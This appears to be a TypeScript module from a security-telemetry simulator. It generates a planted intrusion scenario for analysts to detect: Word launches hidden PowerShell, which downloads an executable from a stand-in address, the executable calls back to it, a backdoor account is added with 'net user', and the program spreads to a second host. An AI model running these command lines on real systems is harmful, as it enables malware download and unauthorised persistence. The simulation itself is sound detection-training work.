import { type Program, programs } from './catalogue-programs.ts'
import type { SimulatedHost } from './hosts.ts'
import { type PlannedProcess, programHash, type Span } from './processes.ts'

// A small story for an analyst to find: a document starts PowerShell, PowerShell fetches a program, the program talks
// to an address that nobody else knows, a local user appears, and an hour later the program runs on a second machine.

export interface Story {
  /** SHA-256 of the fetched program. */
  readonly sha256: string
  readonly fileName: string
  /** Where it connects to. */
  readonly remoteAddress: string
  readonly remotePort: number
  /** The local account made on the first machine. */
  readonly userName: string
  readonly first: SimulatedHost
  readonly second: SimulatedHost
  /** Seconds since the epoch. */
  readonly startedAt: number
  readonly userMadeAt: number
  readonly spreadAt: number
}

const fileName = 'update-helper.exe'
const remoteAddress = '203.0.113.66'
const remotePort = 8443

const helper: Program = {
  name: fileName,
  path: `C:\\Users\\Public\\Libraries\\${fileName}`,
  company: '',
  parents: ['powershell.exe'],
  commandLines: [`C:\\Users\\Public\\Libraries\\${fileName} -silent -c ${remoteAddress}:${remotePort}`],
  runsAs: 'user',
  isResident: false,
  weight: 0,
  remotes: [[remoteAddress, remotePort]],
  ports: [],
}

/** undefined for a fleet without two Windows machines, or a span shorter than four hours. */
export function makeStory(hosts: readonly SimulatedHost[], span: Span): Story | undefined {
  const [first, second] = hosts.filter(host => host.platform === 'windows')
  if (first === undefined || second === undefined || span.end - span.start < 4 * 3_600) return undefined
  const startedAt = span.end - 3 * 3_600
  return {
    sha256: programHash(helper),
    fileName,
    remoteAddress,
    remotePort,
    userName: 'svc_backup',
    first,
    second,
    startedAt,
    userMadeAt: startedAt + 540,
    spreadAt: startedAt + 3_780,
  }
}

/** What the story makes run on this host. */
export function storyProcesses(story: Story | undefined, host: SimulatedHost): readonly PlannedProcess[] {
  if (story === undefined) return []
  if (host === story.second) {
    return [{ program: helper, startedAt: story.spreadAt, seconds: 5_000, parentName: 'services.exe', user: 'SYSTEM' }]
  }
  if (host !== story.first) return []
  const { startedAt, userMadeAt } = story
  return [
    { program: named('WINWORD.EXE'), startedAt: startedAt - 40, seconds: 900, parentName: 'OUTLOOK.EXE' },
    { program: downloader(), startedAt, seconds: 60, parentName: 'WINWORD.EXE' },
    { program: helper, startedAt: startedAt + 25, seconds: 9_000, parentName: 'powershell.exe' },
    { program: userMaker(story), startedAt: userMadeAt, seconds: 2, parentName: fileName },
  ]
}

function named(name: string): Program {
  const found = programs.windows.find(program => program.name === name)
  if (found === undefined) throw new RangeError(`no program ${name}`)
  return found
}

function downloader(): Program {
  const command = `Invoke-WebRequest http://${remoteAddress}/u -OutFile C:\\Users\\Public\\Libraries\\${fileName}`
  return {
    ...named('powershell.exe'),
    commandLines: [`powershell.exe -NoProfile -WindowStyle Hidden -Command "${command}"`],
    remotes: [[remoteAddress, 80]],
  }
}

function userMaker(story: Story): Program {
  return {
    ...named('cmd.exe'),
    name: 'net.exe',
    path: 'C:\\Windows\\System32\\net.exe',
    commandLines: [`net user ${story.userName} /add`],
    remotes: [],
  }
}
